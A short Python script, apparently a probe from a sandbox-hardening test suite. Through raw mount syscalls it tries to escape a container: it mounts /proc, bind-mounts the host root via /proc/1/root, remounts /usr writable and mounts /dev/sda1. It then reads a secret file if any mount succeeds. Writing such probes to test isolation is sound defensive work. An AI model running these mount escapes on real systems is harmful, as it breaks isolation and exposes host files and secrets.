# attack: mounts: a new /proc, the host's root bound to a folder, and a writable /usr over the read-only one
# family: ctypes
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("m", exist_ok=True)
for source, kind, flags, target in ((b"proc", b"proc", 0, b"m"), (b"/proc/1/root", None, 4096 | 16384, b"m"), (b"x", b"tmpfs", 0, b"m"), (None, None, 32 | 4096, b"/usr"), (b"/dev/sda1", b"ext4", 1, b"m")):
    if libc.syscall(165, source, target, kind, flags, None) == 0:
        print("REACHED mounted", source, kind, os.listdir("m")[:5])
        if os.path.exists("m$SECRET_FILE"):
            print(open("m$SECRET_FILE").read())
        libc.umount2(b"m", 2)
    else:
        print(source, os.strerror(ctypes.get_errno()))
